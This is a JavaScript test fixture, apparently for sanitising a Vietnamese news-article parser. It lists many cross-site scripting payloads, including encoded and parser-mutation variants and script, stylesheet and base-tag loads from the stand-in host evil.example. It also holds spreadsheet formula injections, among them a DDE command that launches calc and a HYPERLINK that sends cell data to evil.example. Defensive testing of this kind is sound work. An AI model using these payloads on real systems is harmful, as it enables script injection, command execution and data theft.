// Texts that would be a script, if ever they were read as anything but text; what each would do is to call `ran`.

const tags = [
  "<script>ran()</script>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  "<script/x>ran()</script\t>",
  "<scr<script>ipt>ran()</scr</script>ipt>",
  "</script><script>ran()</script>",
  "<script type=module>ran()</script>",
  "<script>ran`1`</script>",
  "<script>/*<!--*/ran()//--></script>",
  "<img src=x onerror=ran()>",
  "<img src=x onerror=\"ran()\"//",
  "<IMG \"\"\"><SCRIPT>ran()</SCRIPT>\">",
  "<img src=`x`onerror=ran()>",
  "<img/src='x'/onerror='ran()'>",
  "<image src=x onerror=ran()>",
  "<img srcset=x onerror=ran()>",
  "<img src=//evil.example/beacon.png>",
  "<picture><source srcset=x><img onerror=ran()></picture>",
  "<body onload=ran()>",
  "<iframe src=\"javascript:parent.ran()\"></iframe>",
  "<iframe srcdoc=\"<script>parent.ran()</script>\"></iframe>",
  "<object data=\"data:text/html,<script>ran()</script>\"></object>",
  "<embed src=\"javascript:ran()\">",
  "<input autofocus onfocus=ran()>",
  "<button formaction=javascript:ran() autofocus>ran</button>",
  "<form action=\"javascript:ran()\"><input type=submit></form>",
  "<details open ontoggle=ran()>",
  "<video><source onerror=ran()></video>",
  "<audio src=x onerror=ran()>",
  "<marquee onstart=ran()>",
  "<a href=\"javascript:ran()\">ran</a>",
  "<a href=\"jav&#x09;ascript:ran()\">ran</a>",
  "<a href=\"\u0001javascript:ran()\">ran</a>",
  "<base href=//evil.example/>",
  "<link rel=stylesheet href=//evil.example/x.css>",
  "<meta http-equiv=refresh content=\"0;url=javascript:ran()\">",
  "<meta http-equiv=Content-Security-Policy content=\"script-src *\">",
  "<template shadowrootmode=open><img src=x onerror=ran()></template>",
  "<x-y contenteditable onblur=ran() tabindex=1 autofocus>",
  "<tin-bai><img src=x onerror=ran()></tin-bai>",
];

const drawings = [
  "<svg onload=ran()>",
  "<svg><script>ran()</script></svg>",
  "<svg><script href=data:,ran() /></svg>",
  "<svg><animate onbegin=ran() attributeName=x dur=1s>",
  "<svg><a xlink:href=\"javascript:ran()\"><text x=9 y=9>ran</text></a></svg>",
  "<svg><use href=\"data:image/svg+xml,<svg id=x onload=ran()>#x\"/></svg>",
  "<svg><foreignObject><img src=x onerror=ran()></foreignObject></svg>",
  "<math><mi xlink:href=\"javascript:ran()\">ran</mi></math>",
  "<math href=\"javascript:ran()\">ran</math>",
];

/** What a parser that is asked twice reads in another way than the first time. */
const mutating = [
  "<noscript><p title=\"</noscript><img src=x onerror=ran()>\">",
  "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=ran()&gt;\">",
  "<svg></p><style><a id=\"</style><img src=x onerror=ran()>\">",
  "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=ran()>",
  "<listing>&lt;img src=x onerror=ran()&gt;</listing>",
  "<xmp><p title=\"</xmp><img src=x onerror=ran()>\"></xmp>",
  "<!--><img src=x onerror=ran()>-->",
  "<!--x--!><img src=x onerror=ran()>",
  "<![CDATA[<img src=x onerror=ran()>]]>",
  "<?xml version=\"1.0\"?><img src=x onerror=ran()>",
  "<!doctype html [<!entity x \"<img src=x onerror=ran()>\">]>&x;",
  "<title><img src=x onerror=ran()></title>",
  "<textarea></textarea><img src=x onerror=ran()>",
];

/** What ends the attribute, the string, the style or the comment in which it is put. */
const breakouts = [
  "\" onmouseover=\"ran()\" x=\"",
  "' onfocus='ran()' autofocus x='",
  "\"><img src=x onerror=ran()>",
  "'><svg onload=ran()>",
  "` onerror=ran() x=`",
  "\";ran();//",
  "';ran();//",
  "\\\";ran();//",
  "${ran()}",
  "`${ran()}`",
  "{{constructor.constructor('ran()')()}}",
  "]]>\"><script>ran()</script>",
  "--><script>ran()</script>",
  "*/ran()/*",
  "</style><script>ran()</script>",
  "</title></head><body onload=ran()>",
  "</textarea><script>ran()</script>",
  "\u2028ran()\u2029",
  "<style>@import'//evil.example/x.css';</style>",
  "<div style=\"background:url(//evil.example/x)\">",
  "<p style=\"width:expression(ran())\">",
  "}body{background:url(//evil.example/x)}",
];

const written = [
  "&lt;img src=x onerror=ran()&gt;",
  "&#60;script&#62;ran()&#60;/script&#62;",
  "&#x3C;script&#x3E;ran()&#x3C;/script&#x3E;",
  "&amp;lt;script&amp;gt;ran()&amp;lt;/script&amp;gt;",
  "%3Cscript%3Eran()%3C/script%3E",
  "\\u003cscript\\u003eran()\\u003c/script\\u003e",
  "\\x3cscript\\x3eran()\\x3c/script\\x3e",
  "+ADw-script+AD4-ran()+ADw-/script+AD4-",
  "\uff1cscript\uff1eran()\uff1c/script\uff1e",
  "<\u0000script>ran()</script>",
  "<scr\u0000ipt>ran()</scr\u0000ipt>",
  "<\u200bscript>ran()</script>",
  "\u202e<script>ran()</script>\u202c",
  "\u2066>tpircs<\u2069<img src=x onerror=ran()>",
  "\ufeff<img src=x onerror=ran()>",
];

const links = [
  "javascript:ran()",
  "JaVaScRiPt:ran()",
  "java\tscript:ran()",
  "javascript://www.example.vn/%0Aran()",
  "data:text/html,<script>ran()</script>",
  "vbscript:ran()",
  "[ran](javascript:ran())",
  "[ran](<javascript:ran()>)",
  "![ran](//evil.example/x.png)",
  "![ran](x\"onerror=\"ran())",
  "[ran]: javascript:ran()",
  "<javascript:ran()>",
  "www.example.vn/\"onmouseover=\"ran()",
  "http://www.example.vn/'><img/src=x/onerror=ran()>",
  "a@example.vn\"><img/src=x/onerror=ran()>",
];

/** Each of them is a text of one line. */
const all = [...tags, ...drawings, ...mutating, ...breakouts, ...written, ...links];

/** All of them in the thorough run, else every third. */
export const payloads = process.env.TINBAI_THOROUGH ? all : all.filter((_, at) => at % 3 === 0);

/** What a spreadsheet would compute. */
export const formulas = [
  "=1+1",
  "+1+1",
  "-1+1",
  "@SUM(1+1)",
  "=cmd|'/C calc'!A0",
  "=HYPERLINK(\"http://evil.example/?\"&A1,\"Bấm\")",
  "\t=1+1",
  "\r=1+1",
  "\uff1d1+1",
  "\uff0b1+1",
  "\uff0d1+1",
  "\uff201+1",
];

/** An article that has `words` in every place from which the parser takes something, and names enough to fill every panel. */
export const articleWith = (words, title = words) => `${title}

8:34 PM, 06/09/2019

(Chinhphu.vn) - Chợ nổi Bến Sậy ${words} họp lại từ tuần này với hơn bốn mươi ghe hàng của các hộ sống trên sông.

Ghe hàng về chợ ${words}. Ảnh: Gia Hân ${words}

Chiều 6/9, ông Đỗ Văn Thuần ${words}, Chủ tịch UBND xã Bến Sậy ${words}, cho biết xã đã lắp đèn: “Từ nay bà con ${words} không phải chờ”.

Theo Nghị định số 32/2015/NĐ-CP ngày 25/3/2015 của Chính phủ về quản lý ${words}, chi phí là 215 tỷ đồng. Ban Quản lý ${words} (BQL) có địa chỉ www.bensay.vn/${words} và gopy@bensay.vn.

“${words}”, ông Thuần nói.

Thu Lam

Từ khóa: chợ nổi, ${words}, Bến Sậy
`;
